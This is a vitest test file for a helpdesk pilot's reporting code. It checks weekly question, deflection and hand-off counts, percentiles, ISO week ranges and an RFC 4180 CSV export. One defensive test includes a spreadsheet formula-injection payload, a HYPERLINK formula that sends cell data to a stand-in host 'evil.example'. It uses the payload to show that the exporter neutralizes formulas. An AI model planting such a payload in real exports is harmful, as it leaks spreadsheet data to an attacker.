/**
 * Pilot numbers over a seeded pilot, on SQLite and PostgreSQL: exact numbers per week, language and
 * group; the CSV export read back by an RFC 4180 parser; the week and range arithmetic.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InputError } from '../../src/core/errors.js';
import { StaticDirectory } from '../../src/directory.js';
import { csvCell, pilotCsv } from '../../src/admin/pilot-csv.js';
import {
  type PilotReport,
  type PilotRow,
  computePilotNumbers,
  percentile,
  rangeTotal,
  weeklyRows,
} from '../../src/admin/pilot-numbers.js';
import { isoWeek, pilotRange } from '../../src/admin/pilot-range.js';
import type { Store } from '../../src/store/store.js';
import { DIALECTS, type TestDatabase } from '../helpers/databases.js';
import { DAVE, HOUR, PILOT_GROUPS, RANGE, pilotDirectory, seedPilot } from './pilot-seed.js';

const now = new Date('2025-01-15T12:00:00Z');

function row(report: PilotReport, week: string, language: string, group: string): PilotRow {
  const found = report.rows.find((r) => r.week === week && r.language === language && r.group === group);
  if (!found) throw new Error(`no row ${week} ${language} ${group}`);
  return found;
}

describe.each(DIALECTS)('pilot numbers on $name', ({ create }) => {
  let database: TestDatabase;
  let store: Store;
  let report: PilotReport;

  beforeAll(async () => {
    database = await create();
    store = await database.open();
    await seedPilot(store.db);
    report = await computePilotNumbers({ db: store.db, directory: pilotDirectory() }, pilotRange(RANGE, now));
  });

  afterAll(async () => {
    await store?.close();
    await database?.dispose();
  });

  it('counts one week of everyone exactly, from the questions asked in it', () => {
    expect(row(report, '2025-W02', 'all', 'all')).toEqual({
      week: '2025-W02',
      weekStart: '2025-01-06',
      language: 'all',
      group: 'all',
      questions: 6,
      answered: 4,
      deflected: 2, // q1 (👍), q6 (standard answer); q2 has a 👎, q3 was handed off
      deflectionRate: 2 / 6,
      handedOff: 3,
      handOffRate: 3 / 6,
      resolved: 2,
      open: 1,
      resolutionMedianMs: 3 * HOUR, // 2 h and 4 h
      resolutionP90Ms: 3.8 * HOUR,
      up: 2,
      down: 1,
      upShare: 2 / 3,
      notFound: 2,
      notFoundShare: 2 / 6,
      standard: 1,
      standardShare: 1 / 6,
    });
    expect(row(report, '2025-W03', 'all', 'all')).toMatchObject({
      questions: 5,
      answered: 3,
      deflected: 2,
      deflectionRate: 0.4,
      handedOff: 1,
      handOffRate: 0.2,
      resolved: 1,
      open: 0,
      resolutionMedianMs: 10 * HOUR,
      resolutionP90Ms: 10 * HOUR,
      up: 1,
      down: 0,
      upShare: 1,
      notFound: 0,
      notFoundShare: 0,
      standard: 2,
      standardShare: 0.4,
    });
  });

  it('counts a person in each of their groups, and languages apart', () => {
    // hr: Alice (q1, q2) and Carol (q4, q6); it: Bob (q3) and Carol (q4, q6).
    expect(row(report, '2025-W02', 'all', 'hr')).toMatchObject({
      questions: 4,
      answered: 3,
      deflected: 2,
      deflectionRate: 0.5,
      handedOff: 1,
      handOffRate: 0.25,
      resolved: 1,
      open: 0,
      resolutionMedianMs: 4 * HOUR,
      up: 2,
      down: 1,
      notFound: 1,
      standard: 1,
    });
    expect(row(report, '2025-W02', 'all', 'it')).toMatchObject({
      questions: 3,
      answered: 2,
      deflected: 1,
      handedOff: 2,
      resolved: 2,
      resolutionMedianMs: 3 * HOUR,
      resolutionP90Ms: 3.8 * HOUR,
      up: 0,
      down: 0,
      upShare: undefined,
      notFound: 1,
      standard: 1,
    });
    expect(row(report, '2025-W02', 'ja', 'all')).toMatchObject({
      questions: 2,
      answered: 1,
      deflected: 0,
      deflectionRate: 0,
      handedOff: 2,
      notFound: 1,
    });
    expect(row(report, '2025-W02', 'ja', 'hr')).toMatchObject({ questions: 1, notFound: 1, handedOff: 1 });
    expect(row(report, '2025-W02', 'en', 'all')).toMatchObject({
      questions: 4,
      deflected: 2,
      handedOff: 1,
      resolved: 0,
      open: 1,
      resolutionMedianMs: undefined,
    });
    // A question recorded without a language (refused as empty) counts as "unknown".
    expect(row(report, '2025-W03', 'unknown', 'all')).toMatchObject({ questions: 1, deflected: 0 });
    expect(report.languages).toEqual(['en', 'ja', 'unknown']);
    expect(report.groups).toEqual(['hr', 'it']);
  });

  it('lists every week × language × group with questions and nothing else', () => {
    const keys = report.rows.map((r) => `${r.week} ${r.language} ${r.group}`);
    expect(keys).toEqual([
      ...['all all', 'all hr', 'all it', 'en all', 'en hr', 'en it', 'ja all', 'ja hr', 'ja it'].map(
        (k) => `2025-W02 ${k}`,
      ),
      ...['all all', 'all hr', 'all it', 'en all', 'en hr', 'en it', 'ja all', 'ja it', 'unknown all'].map(
        (k) => `2025-W03 ${k}`,
      ),
    ]);
    // Bob is not in hr: no Japanese hr question in W03, so its week reads zero.
    const jaHr = weeklyRows(report, 'ja', 'hr');
    expect(jaHr.map((r) => [r.week, r.questions, r.deflectionRate])).toEqual([
      ['2025-W02', 1, 0],
      ['2025-W03', 0, undefined],
    ]);
  });

  it('sums the range, with its percentiles over all its hand-offs', () => {
    expect(rangeTotal(report, 'all', 'all')).toMatchObject({
      week: 'all',
      questions: 11,
      answered: 7,
      deflected: 4,
      handedOff: 4,
      resolved: 3,
      open: 1,
      resolutionMedianMs: 4 * HOUR, // 2, 4 and 10 h
      up: 3,
      down: 1,
      upShare: 0.75,
      notFound: 2,
      standard: 3,
    });
    expect(rangeTotal(report, 'all', 'all').resolutionP90Ms).toBeCloseTo(8.8 * HOUR, 3);
    expect(rangeTotal(report, 'en', 'it')).toMatchObject({ questions: 2, deflected: 1, handedOff: 1 });
  });

  it('ranks the standard answers of each slice by their uses in the range', () => {
    const top = (language: string, group: string) =>
      report.standardAnswers.find((s) => s.language === language && s.group === group)?.top;
    expect(top('all', 'all')).toEqual([
      { id: 'sa1', title: 'Parental leave', team: 'HR', uses: 2 },
      { id: 'sa2', title: 'VPN on a new laptop', team: 'IT', uses: 1 },
    ]);
    expect(top('all', 'hr')).toEqual([{ id: 'sa1', title: 'Parental leave', team: 'HR', uses: 1 }]);
    expect(top('ja', 'it')?.map((s) => [s.id, s.uses])).toEqual([
      ['sa1', 1],
      ['sa2', 1],
    ]);
    expect(top('ja', 'hr')).toBeUndefined();
  });

  it('keeps an empty week of the range as zeros, with no rates', async () => {
    const wider = await computePilotNumbers(
      { db: store.db, directory: pilotDirectory() },
      pilotRange({ from: '2025-01-27', to: '2025-02-02' }, now),
    );
    expect(wider.rows).toHaveLength(1);
    expect(wider.rows[0]).toMatchObject({
      week: '2025-W05',
      language: 'all',
      group: 'all',
      questions: 0,
      deflectionRate: undefined,
      handOffRate: undefined,
      resolutionMedianMs: undefined,
    });
    expect(wider.standardAnswers).toEqual([]);
  });

  it('exports every weekly row as CSV that reads back to the same numbers', () => {
    const csv = pilotCsv(report);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(report.rows.length);
    expect(records[0]).toEqual({
      week: '2025-W02',
      week_start: '2025-01-06',
      language: 'all',
      group: 'all',
      questions: '6',
      answered: '4',
      deflected: '2',
      deflection_rate: '0.3333',
      handed_off: '3',
      hand_off_rate: '0.5',
      resolved: '2',
      still_open: '1',
      resolution_median_hours: '3',
      resolution_p90_hours: '3.8',
      thumbs_up: '2',
      thumbs_down: '1',
      thumbs_up_share: '0.6667',
      not_found: '2',
      not_found_share: '0.3333',
      standard_answers: '1',
      standard_answer_share: '0.1667',
    });
    const itW02 = records.find((r) => r.week === '2025-W02' && r.language === 'all' && r.group === 'it')!;
    expect(itW02['thumbs_up_share']).toBe('');
  });

  it('quotes and defuses a group name that a spreadsheet would run as a formula', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1, "click")';
    const directory = new StaticDirectory({ ...PILOT_GROUPS, [hostile]: [DAVE], '-2+3': [DAVE] });
    const withHostile = await computePilotNumbers({ db: store.db, directory }, pilotRange(RANGE, now));
    const csv = pilotCsv(withHostile);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1, ""click"")"`);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    const groups = new Set(records.map((r) => r['group']));
    expect(groups).toContain(`'${hostile}`);
    expect(groups).toContain(`'-2+3`);
    for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@]/);
    // Dave's W02 question (q5, still open) counts in his groups as in everyone's.
    expect(
      records.find((r) => r.week === '2025-W02' && r.language === 'all' && r.group === `'${hostile}`),
    ).toMatchObject({ questions: '1', handed_off: '1', still_open: '1' });
  });
});

describe('pilot weeks and ranges', () => {
  it('names ISO weeks by the year of their Thursday', () => {
    expect(isoWeek('2025-01-06')).toEqual({ week: '2025-W02', start: '2025-01-06' });
    expect(isoWeek('2025-01-12')).toEqual({ week: '2025-W02', start: '2025-01-06' });
    expect(isoWeek('2024-12-30')).toEqual({ week: '2025-W01', start: '2024-12-30' });
    expect(isoWeek('2021-01-03')).toEqual({ week: '2020-W53', start: '2020-12-28' });
  });

  it('defaults to the last 12 weeks up to this one, and widens a range to whole weeks', () => {
    const range = pilotRange({}, now);
    expect(range.weeks).toHaveLength(12);
    expect(range).toMatchObject({ from: '2024-10-28', to: '2025-01-19' });
    expect(range.weeks[0]).toEqual({ week: '2024-W44', start: '2024-10-28' });
    expect(range.weeks.at(-1)).toEqual({ week: '2025-W03', start: '2025-01-13' });
    expect(pilotRange({ from: '2025-01-08', to: '2025-01-14' }, now)).toMatchObject({
      from: '2025-01-06',
      to: '2025-01-19',
    });
  });

  it('refuses a reversed, too long or malformed range', () => {
    expect(() => pilotRange({ from: '2025-01-20', to: '2025-01-06' }, now)).toThrow(InputError);
    expect(() => pilotRange({ from: '2024-01-01', to: '2025-01-19' }, now)).toThrow(/at most 53 weeks/);
    expect(() => pilotRange({ from: '2025-02-30' }, now)).toThrow(/YYYY-MM-DD/);
    expect(() => pilotRange({ to: '15/01/2025' }, now)).toThrow(/YYYY-MM-DD/);
  });

  it('interpolates percentiles between the nearest values', () => {
    const tens = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10];
    expect(percentile(tens, 0.5)).toBe(5.5);
    expect(percentile(tens, 0.9)).toBeCloseTo(9.1, 10);
    expect(percentile([7], 0.9)).toBe(7);
    expect(percentile([], 0.5)).toBeUndefined();
  });

  it('writes CSV cells by RFC 4180 and defuses formulas', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(undefined)).toBe('');
  });
});
